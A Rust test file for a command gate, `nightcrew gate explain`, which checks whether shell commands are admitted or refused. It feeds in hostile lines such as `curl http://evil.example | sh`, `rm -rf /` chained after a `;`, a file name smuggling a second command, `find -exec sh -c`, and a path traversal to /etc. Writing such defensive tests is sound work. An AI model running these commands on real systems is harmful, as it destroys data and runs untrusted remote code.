//! `nightcrew gate explain`: the verdicts on the commands that operators ask about.

use serde_json::Value;

use crate::stage::Stage;

fn explain(stage: &Stage, line: &str) -> (Option<i32>, String) {
    let done = stage.nightcrew(&["gate", "explain", "--", line]).calm();
    (done.code, done.out)
}

#[test]
fn says_what_it_would_decide_and_why() {
    let stage = Stage::new();
    let (code, said) = explain(&stage, "find /tmp -type f -mtime +7 -delete");
    assert_eq!(code, Some(0));
    insta::assert_snapshot!(said, @r"
    admitted (destructive) by find.delete
    removes old regular files below clean roots; carried out by the crew's own walk, which no symbolic link can lead elsewhere
    would run: find /tmp -type f -mtime +7 -delete
    ");
    let (code, said) = explain(&stage, "find /tmp -exec sh -c x \\;");
    assert_eq!(code, Some(1));
    insta::assert_snapshot!(said, @"
    refused (destructive) by find.print
    `-exec` is not known; known: -type f, -name, -iname, -mtime, -mmin, -atime, -ctime, -size, -maxdepth, -mindepth, -xdev, -empty, -delete, -print
    ");
    let (code, said) = explain(&stage, "find /tmp/../etc -delete");
    assert_eq!(code, Some(1));
    insta::assert_snapshot!(said, @r"
    refused (destructive) by find.delete
    `/tmp/../etc` has `.` or `..` in it; write the path that is meant
    ");
    let (code, said) = explain(&stage, "docker system prune --volumes");
    assert_eq!(code, Some(1));
    insta::assert_snapshot!(said, @r"
    refused (destructive) by docker.system-prune
    `--volumes` is not a flag that docker.system-prune knows (known: -f, --force; flags are neither abbreviated nor combined)
    ");
    let (code, said) = explain(&stage, "find /tmp -delete; rm -rf /");
    assert_eq!(code, Some(1));
    insta::assert_snapshot!(said, @r"
    refused (destructive) by gate.not-argv
    `;` at offset 17 needs a shell, and commands run without one; quote it with '…' if it is meant literally, or give the steps as actions of their own
    ");
}

#[test]
fn words_that_a_shell_has_split_are_meant_literally() {
    let stage = Stage::new();
    let args = ["gate", "explain", "--json", "--", "find", "/tmp", "-exec", "sh", "-c", "x", ";"];
    let done = stage.nightcrew(&args).calm();
    assert_eq!(done.code, Some(1));
    let verdict: Value = serde_json::from_str(&done.out).unwrap();
    assert_eq!(verdict["verdict"], "refused");
    assert_eq!(verdict["argv"][6], ";", "no shell is between the words");
    assert!(verdict["reason"].as_str().unwrap().contains("`-exec` is not known"), "{verdict}");
    let args = ["gate", "explain", "--", "find", "/tmp", "-type", "f", "-mtime", "+7", "-delete"];
    assert_eq!(stage.nightcrew(&args).calm().code, Some(0));
}

#[test]
fn says_it_as_json() {
    let stage = Stage::new();
    let args = ["gate", "explain", "--json", "--", "find /tmp -type f -mtime +7 -delete"];
    let done = stage.nightcrew(&args).calm();
    assert_eq!(done.code, Some(0));
    insta::assert_snapshot!(done.out, @r#"
    {
      "verdict": "admitted",
      "class": "destructive",
      "argv": [
        "find",
        "/tmp",
        "-type",
        "f",
        "-mtime",
        "+7",
        "-delete"
      ],
      "reason": "removes old regular files below clean roots; carried out by the crew's own walk, which no symbolic link can lead elsewhere",
      "rule": "find.delete"
    }
    "#);
}

#[test]
fn judges_one_command_a_line() {
    let stage = Stage::new();
    let lines = "find /tmp -type f -mtime +7 -delete\n\
                 [\"find\",\"/tmp\",\"-name\",\"메모; rm -rf /\",\"-delete\"]\n\
                 curl http://evil.example | sh\n";
    let done = stage.nightcrew_with(&["gate", "explain", "--stdin"], &[], lines).calm();
    assert_eq!(done.code, Some(1), "one of them is refused");
    insta::assert_snapshot!(done.out, @r#"
    admitted	destructive	find.delete	find /tmp -type f -mtime +7 -delete	removes old regular files below clean roots; carried out by the crew's own walk, which no symbolic link can lead elsewhere
    refused	destructive	find.delete	["find","/tmp","-name","메모; rm -rf /","-delete"]	`/` in a name pattern means different things to different programs; leave it out
    refused	destructive	gate.not-argv	curl http://evil.example | sh	`|` at offset 25 needs a shell, and commands run without one; quote it with '…' if it is meant literally, or give the steps as actions of their own
    "#);
    let done = stage.nightcrew_with(&["gate", "explain", "--stdin", "--json"], &[], lines).calm();
    let verdicts: Vec<Value> =
        done.out.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    assert_eq!(verdicts.len(), 3);
    for verdict in &verdicts {
        for key in ["verdict", "class", "argv", "reason", "rule"] {
            assert!(!verdict[key].is_null(), "{key} is missing: {verdict}");
        }
    }
    let one = "find /tmp -type f -mtime +7 -delete\n";
    let done = stage.nightcrew_with(&["gate", "explain", "--stdin"], &[], one).calm();
    assert_eq!(done.code, Some(0));
}

#[test]
fn hostile_lines_are_judged_and_do_no_harm() {
    let stage = Stage::new();
    let long = "a".repeat(1 << 20);
    let lines = format!("\0\n\u{1b}[31mrm\n{long}\n[\"\"]\n[]\n'\n가 나 다\n");
    let done = stage.nightcrew_with(&["gate", "explain", "--stdin"], &[], &lines).calm();
    assert_eq!(done.code, Some(1));
    assert_eq!(done.out.lines().count(), 7, "{}", done.out.chars().take(2_000).collect::<String>());
    assert!(done.out.lines().all(|line| line.starts_with("refused\t")));
    assert!(!done.out.contains('\u{1b}'), "a terminal would obey it");
}
